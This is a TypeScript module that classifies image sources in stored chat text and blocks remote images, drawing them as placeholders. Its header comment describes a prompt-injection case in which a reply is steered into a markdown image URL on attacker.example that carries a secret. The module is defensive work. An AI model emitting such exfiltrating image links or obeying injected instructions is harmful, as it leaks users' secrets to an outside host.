/**
 * Where an image written in stored text would be fetched from. A reply can be steered by a prompt
 * injection into `![](https://attacker.example/?q=<secret>)`; rendering it would send the secret the moment the
 * thread opens. So only the app's own images (and data:/blob: ones, which fetch nothing) are drawn; anything else is
 * "remote" and shown as a placeholder naming its host.
 */
export type ImageSource = { kind: "local"; src: string } | { kind: "remote"; href: string; host: string } | { kind: "invalid" };

/** Stands for the page's origin while it is unknown (server rendering): relative URLs still resolve to it. */
const UNKNOWN_ORIGIN = "https://page.invalid";

/**
 * `pageOrigin` is `location.origin` in the browser, null on the server: there an absolute URL to the app itself counts
 * as remote until hydration tells otherwise (never the reverse, so nothing is fetched that should not be).
 */
export function classifyImage(src: string, pageOrigin: string | null): ImageSource {
  const raw = src.trim();
  if (/^(data:image\/|blob:)/i.test(raw)) return { kind: "local", src: raw };
  const base = pageOrigin ?? UNKNOWN_ORIGIN;
  let url: URL;
  try {
    url = new URL(raw, base);
  } catch {
    return { kind: "invalid" };
  }
  if (url.protocol !== "https:" && url.protocol !== "http:") return { kind: "invalid" };
  if (url.origin === new URL(base).origin) return { kind: "local", src: raw };
  return { kind: "remote", href: url.href, host: url.host };
}
